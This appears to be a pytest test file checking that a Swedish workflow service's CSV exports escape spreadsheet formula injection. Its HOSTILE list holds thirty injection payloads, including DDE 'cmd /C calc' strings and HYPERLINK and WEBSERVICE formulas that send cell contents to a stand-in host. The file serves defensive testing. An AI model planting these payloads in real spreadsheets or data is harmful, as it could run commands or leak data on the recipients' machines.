"""What is opened in a spreadsheet is text: whatever anybody has written, nothing computes."""

import csv
import io
from collections.abc import Iterator
from datetime import date

import pytest

from tests.service.worlds import ROUND, Stage
from workflow.service import extending
from workflow.service.reading.past.event import Filter
from workflow.service.reading.past.event_sheet import events_as_sheet
from workflow.service.reading.past.events import Scope, every_event
from workflow.service.reading.register.register import Days, register, register_as_sheet
from workflow.service.reading.sheet import rows_as_text

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x.example"),"//a")',
    '=WEBSERVICE("http://x.example")',
    '=DDE("cmd";"/C calc";"a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    'a";=1+1;"',
    'a"\r\n=1+1',
    "a;=1+1",
    "a\n=1+1",
    "=1+1;;;",
    '"=1+1"',
    "\ufeff=1+1",
)
"""Thirty texts that a spreadsheet might take for something to do."""
DANGEROUS = tuple("=+-@\t\r\n'＝＋－＠")


def read(parts: Iterator[str]) -> list[list[str]]:
    """Read a sheet as a spreadsheet does."""
    text = "".join(parts)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_stays_one_cell_and_is_no_formula(text: str) -> None:
    """It comes back whole in its own cell, and what would be computed has a ' before it."""
    rows = read(rows_as_text(["A", "B"], [[text, "x"]]))

    (_, (cell, beside)) = rows
    assert "x" == beside
    assert text in (cell, cell.removeprefix("'"))
    assert cell.startswith("'") or not cell.lstrip(" \u00a0\ufeff").startswith(DANGEROUS)


def test_numbers_days_and_nothing_are_left_as_they_are() -> None:
    """The program's own values need no mark."""
    rows = read(rows_as_text(["A"], [[-5], [date(2009, 3, 6)], [None], ["Örebro"]]))

    assert [["A"], ["-5"], ["2009-03-06"], [""], ["Örebro"]] == rows


def test_lines_end_as_rfc_4180_says() -> None:
    """Semicolons between cells, CR LF behind each line, a byte order mark before the first."""
    assert ["\ufeffA;B\r\n", '1;"a;b"\r\n'] == list(rows_as_text(["A", "B"], [["1", "a;b"]]))


def test_hostile_texts_in_every_field_come_out_as_text(groundwork: Stage) -> None:
    """Names of people and units, comments, reasons, questions and answers, thirty of each: in
    the sheets of events and of the register no cell begins with what a spreadsheet computes."""
    units = groundwork.units("verksamhet")
    for number, text in enumerate(HOSTILE):
        groundwork.put("2009-02-20", f"{8 + number // 60:02}:{number % 60:02}")
        unit = units[number % len(units)]
        chief, boss, case = (
            groundwork.chief(unit),
            groundwork.boss(unit),
            groundwork.case("underlag", unit),
        )
        groundwork.change("UPDATE people SET name = :n WHERE email = :e", n=text, e=chief)
        groundwork.change(
            "UPDATE round_units SET name = :n WHERE round_id = :r AND key = :k",
            n=text,
            r=ROUND,
            k=unit,
        )
        answers = {
            str(row[0]): text
            for row in groundwork.rows(
                "SELECT number FROM questions WHERE case_id = :c AND answer IS NULL", c=case
            )
        }
        groundwork.hand_in(unit, comment=text, data={"answers": answers})
        task = groundwork.rows(
            "SELECT id FROM tasks WHERE case_id = :c AND closed_at IS NULL", c=case
        )
        extending.ask(groundwork.world, task[0][0], date(2009, 3, 20), reason=text, email=boss)
        groundwork.act(case, "aterlamna", boss, data={"questions": [text], "due_on": "2009-03-30"})
    scope = Scope(round=ROUND)

    events = read(
        events_as_sheet(every_event(groundwork.world, groundwork.leader, scope, Filter()))
    )
    rows = register(groundwork.world, Days(since=date(2008, 1, 1), until=date(2010, 1, 1)))
    registered = read(register_as_sheet(rows))

    widths = {len(row) for row in events}, {len(row) for row in registered}
    computed = [
        cell
        for row in (*events, *registered)
        for cell in row
        if cell.lstrip(" \u00a0\ufeff").startswith(DANGEROUS) and not cell.startswith("'")
    ]
    assert ({16}, {11}) == widths
    assert [] == computed
    said = "\n".join(cell for row in events for cell in row).replace("\r\n", "\n")
    assert [] == [t for t in HOSTILE if t.strip(" \u00a0\t\r\n").replace("\r\n", "\n") not in said]
